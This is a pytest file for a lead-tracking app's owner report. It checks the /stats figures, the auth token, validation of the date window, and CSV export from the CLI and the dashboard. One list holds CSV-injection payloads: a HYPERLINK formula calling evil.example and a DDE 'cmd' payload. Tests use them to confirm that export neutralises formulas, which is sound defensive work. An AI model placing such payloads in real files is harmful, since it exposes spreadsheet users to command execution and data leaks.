"""The owner report: ``GET /stats`` figures computed by the database, and the CSV export (CLI)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
import requests
import yaml

from app import create_app
from bot.sandbox import serve_in_thread
from graph.playbook import _Yaml12Loader
from store.db import make_engine, make_sessionmaker
from store.models import CaptureEvent, Lead, Message, Touch, utcnow
from store.report import owner_report, spreadsheet_safe
from tests.conftest import API_TOKEN, DASHBOARD_PASSWORD, ROOT, STATS_TOKEN, fresh_database, stack_settings

T0 = datetime(2020, 3, 2, 15, 0, tzinfo=timezone.utc)
WINDOW = {"since": "2020-03-01", "until": "2020-04-01T00:00:00Z"}


def minutes(n: float) -> timedelta:
    return timedelta(minutes=n)


@pytest.fixture(scope="module")
def report_app(tmp_path_factory, redis_url) -> Any:
    """An app on a database of its own, holding a known set of leads in March 2020 and one qualified now."""
    tmp = tmp_path_factory.mktemp("report")
    url = fresh_database(tmp, suffix="_report")
    data = yaml.load((ROOT / "playbook.yaml").read_text(), Loader=_Yaml12Loader)
    data["goals"] = {"qualified_per_month": 4}
    playbook = tmp / "playbook.yaml"
    playbook.write_text(yaml.safe_dump(data))
    settings = stack_settings(database_url=url, redis_url=redis_url, sandbox_url="http://127.0.0.1:9", web_port=9,
                              playbook=playbook)
    engine = make_engine(url)
    with make_sessionmaker(engine).begin() as s:
        def lead(phone: str, **kw: Any) -> Lead:
            row = Lead(business_id=1, phone=phone, channel=kw.pop("channel", "sms"), answers={},
                       created_at=kw.pop("created_at", T0),
                       first_response_due_at=T0 + minutes(5), **kw)
            s.add(row)
            s.flush()
            return row

        hot = lead("+17205550101", source="form", status="qualified", estimated_value_usd=Decimal(14000),
                   first_response_at=T0 + minutes(1), qualified_at=T0 + minutes(9))
        lead("+17205550102", channel="whatsapp", source="inbound_whatsapp", status="booked",
             estimated_value_usd=Decimal(1200), first_response_at=T0 + minutes(2), qualified_at=T0 + minutes(8),
             booked_at=T0 + minutes(30))
        slow = lead("+17205550103", source="form", status="lost", lost_reason="price", estimated_value_usd=Decimal(300),
                    first_response_at=T0 + minutes(10), last_inbound_at=datetime(2020, 3, 4, tzinfo=timezone.utc))
        lead("+17205550104", source="ads", status="disqualified", lost_reason="not_serviceable")
        lead("+17205550105", source="form", status="qualified", created_at=datetime(2020, 5, 2, tzinfo=timezone.utc),
             qualified_at=datetime(2020, 5, 2, tzinfo=timezone.utc))  # outside the window
        lead("+17205550106", source="form", status="qualified", created_at=utcnow(), qualified_at=utcnow())
        s.add(CaptureEvent(business_id=1, event_id="dup-1", lead_id=hot.id, source="form", received_at=T0 + minutes(60),
                           channel="sms", contact_method="sms", duplicate=True))
        sent = Message(business_id=1, lead_id=slow.id, direction="outbound", kind="touch", to_address=slow.phone, body="day 1",
                       outbox_state="sent", status="delivered", sent_at=datetime(2020, 3, 3, 16, tzinfo=timezone.utc))
        refused = Message(business_id=1, lead_id=slow.id, direction="outbound", kind="touch", to_address=slow.phone, body="day 3",
                          outbox_state="failed", status="failed", error_code=30007)
        s.add_all([sent, refused])
        s.flush()
        s.add_all([
            Touch(business_id=1, lead_id=slow.id, step="day1", attempt_number=1, due_at=T0 + timedelta(days=1),
                  result="delivered",
                  attempted_at=datetime(2020, 3, 3, 16, tzinfo=timezone.utc), message_id=sent.id),
            Touch(business_id=1, lead_id=slow.id, step="day3", attempt_number=2, due_at=T0 + timedelta(days=3), result="failed",
                  attempted_at=datetime(2020, 3, 5, 16, tzinfo=timezone.utc), message_id=refused.id),
            Touch(business_id=1, lead_id=hot.id, step="day1", attempt_number=1, due_at=T0 + timedelta(days=1),
                  result="skipped_quiet_hours", attempted_at=datetime(2020, 3, 3, 4, tzinfo=timezone.utc)),
        ])
    engine.dispose()
    app = create_app(settings)
    server, base = serve_in_thread(app)
    yield base, url
    server.shutdown()
    app.extensions["leadline"].close()


def get_stats(base: str, token: str | None = STATS_TOKEN, **params: str) -> requests.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return requests.get(f"{base}/stats", params=params, headers=headers, timeout=10)


def test_stats_needs_the_stats_token(report_app):
    base, _ = report_app
    assert get_stats(base, token=None).status_code == 401
    assert get_stats(base, token="wrong").status_code == 401
    assert get_stats(base, token="test-api-token").status_code == 401  # the capture API's token is not enough


def test_stats_for_a_window_are_the_database_aggregates(report_app):
    base, _ = report_app
    answer = get_stats(base, **WINDOW)
    assert answer.status_code == 200
    stats = answer.json()
    assert stats["leads"]["total"] == 4
    assert {k: v for k, v in stats["leads"]["by_status"].items() if v} == \
        {"qualified": 1, "booked": 1, "lost": 1, "disqualified": 1}
    assert stats["leads"]["by_source"] == {"form": 2, "inbound_whatsapp": 1, "ads": 1}
    assert stats["leads"]["by_channel"] == {"sms": 3, "whatsapp": 1}
    assert stats["first_response_minutes"] == {"p50": 2.0, "p90": 10.0, "answered": 3, "late": 1}
    assert stats["estimated_value_usd"]["total"] == 15500.0
    assert {k: v for k, v in stats["estimated_value_usd"]["by_status"].items() if v} == \
        {"qualified": 14000.0, "booked": 1200.0, "lost": 300.0}
    assert stats["lost_reasons"] == {"not_serviceable": 1, "duplicate": 1, "no_reply": 0, "opted_out": 0,
                                     "price": 1, "no_capacity": 0, "other": 0}
    assert (stats["qualified"], stats["booked"]) == (2, 1)
    assert (stats["qualification_rate"], stats["booking_rate"]) == (0.5, 0.25)
    assert stats["touches"]["day1"] == {"sent": 1, "delivered": 1, "failed": 0, "skipped": 1, "replied_after": 1}
    assert stats["touches"]["day3"] == {"sent": 0, "delivered": 0, "failed": 1, "skipped": 0, "replied_after": 0}
    assert stats["touches"]["day7"] == {"sent": 0, "delivered": 0, "failed": 0, "skipped": 0, "replied_after": 0}
    assert stats["goals"]["qualified_this_month"] == 1 and stats["goals"]["qualified_per_month"] == 4
    assert stats["goals"]["progress"] == 0.25
    assert stats["window"] == {"since": "2020-03-01T00:00:00+00:00", "until": "2020-04-01T00:00:00+00:00"}


def test_without_a_window_every_lead_counts(report_app):
    base, _ = report_app
    assert get_stats(base).json()["leads"]["total"] == 6


@pytest.mark.parametrize("params, field", [({"since": "last tuesday"}, "since"), ({"until": "2020-13-01"}, "until"),
                                           ({"since": "2020-04-01", "until": "2020-03-01"}, "until"),
                                           ({"since": "9999-12-31"}, "since"), ({"until": "9999-12-31"}, "until"),
                                           ({"since": "0001-01-01T00:00:00+14:00"}, "since"),
                                           ({"until": "9999-12-31T23:59:59-14:00"}, "until"),
                                           ({"since": "1969-12-31", "until": "2020-01-01"}, "since"),
                                           ({"since": "2020-01-01", "until": "2" * 70}, "until")])
def test_a_bad_window_gets_422_naming_the_parameter(report_app, params, field):
    base, _ = report_app
    answer = get_stats(base, **params)
    assert answer.status_code == 422 and answer.json()["fields"][0]["field"] == field


def test_leadline_export_writes_the_owner_report_as_csv(report_app):
    _, url = report_app
    run = subprocess.run([sys.executable, "-c", "from app import cli; cli()", "export", "--format", "csv",
                          "--since", WINDOW["since"], "--until", WINDOW["until"]],
                         env={"DATABASE_URL": url, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
                         cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    assert run.stderr.strip() == "4 leads exported"
    rows = list(csv.DictReader(io.StringIO(run.stdout)))
    assert list(rows[0]) == ["lead_id", "created_at", "source", "channel", "first_response_minutes",
                             "estimated_value_usd", "status", "lost_reason", "score", "grade", "owner"]
    assert [(r["source"], r["first_response_minutes"], r["estimated_value_usd"], r["status"], r["lost_reason"])
            for r in rows] == [("form", "1.0", "14000.00", "qualified", ""),
                               ("inbound_whatsapp", "2.0", "1200.00", "booked", ""),
                               ("form", "10.0", "300.00", "lost", "price"),
                               ("ads", "", "", "disqualified", "not_serviceable")]
    bad = subprocess.run([sys.executable, "-c", "from app import cli; cli()", "export", "--since", "soon"],
                         env={"DATABASE_URL": url, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
                         cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "ISO 8601" in bad.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?x","Click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3"]
"""Lead sources a hostile form sends: each begins like a spreadsheet formula (OWASP, CSV injection)."""


@pytest.mark.parametrize("text, safe", [*((f, "'" + f) for f in FORMULAS), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                        ("web_form", "web_form"), ("a=b", "a=b"), ("", "")])
def test_text_that_begins_like_a_formula_is_prefixed_with_a_quote(text, safe):
    assert spreadsheet_safe(text) == safe


@pytest.fixture
def hostile_leads(web, phone) -> dict[int, str]:
    """Leads captured through ``POST /leads`` whose source is a formula: ``{lead_id: source}``."""
    leads = {}
    for source in FORMULAS:
        answer = requests.post(f"{web}/leads", headers={"Authorization": f"Bearer {API_TOKEN}"}, timeout=10,
                               json={"event_id": f"csv-{phone()}", "source": source, "phone": phone()})
        assert answer.status_code == 201, answer.text
        leads[answer.json()["lead_id"]] = source
    return leads


def assert_neutralised(csv_text: str, leads: dict[int, str]) -> None:
    """Each lead's source is exported with a leading quote; its other cells are as they were."""
    rows = {int(r["lead_id"]): r for r in csv.DictReader(io.StringIO(csv_text))}
    assert {lead_id: rows[lead_id]["source"] for lead_id in leads} == {k: "'" + v for k, v in leads.items()}
    assert {(rows[lead_id]["channel"], rows[lead_id]["status"][:1].isalpha()) for lead_id in leads} == {("sms", True)}


def test_leadline_export_neutralises_formulas(settings, hostile_leads):
    run = subprocess.run([sys.executable, "-c", "from app import cli; cli()", "export"],
                         env={"DATABASE_URL": settings.database_url, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
                         cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    assert_neutralised(run.stdout, hostile_leads)


def dashboard_session(web: str) -> requests.Session:
    """A browser-like session logged in to the dashboard as ``owner`` (the login form's CSRF token, then the
    username and ``DASHBOARD_PASSWORD``)."""
    browser = requests.Session()
    form = browser.get(f"{web}/dashboard/login", timeout=10)
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    answer = browser.post(f"{web}/dashboard/login", data={"csrf_token": token, "username": "owner",
                                                          "password": DASHBOARD_PASSWORD},
                          timeout=10, allow_redirects=False)
    assert answer.status_code == 302, answer.text
    return browser


def test_the_dashboards_export_neutralises_formulas_and_bounds_its_window(web, hostile_leads):
    browser = dashboard_session(web)
    answer = browser.get(f"{web}/dashboard/export.csv", timeout=30)
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    assert_neutralised(answer.text, hostile_leads)
    for window in ({"since": "9999-12-31"}, {"until": "0001-01-01T00:00:00+14:00"}):
        assert browser.get(f"{web}/dashboard/export.csv", params=window, timeout=10).status_code == 422


def test_the_report_rows_keep_numbers_as_numbers(report_app):
    _, url = report_app
    engine = make_engine(url)
    try:
        with make_sessionmaker(engine)() as session:
            rows = list(owner_report(session, business_id=None, since=T0 - minutes(1), until=T0 + minutes(1)))
    finally:
        engine.dispose()
    assert {type(r["lead_id"]) for r in rows} == {int}
    assert [r["first_response_minutes"] for r in rows] == [1.0, 2.0, 10.0, None]
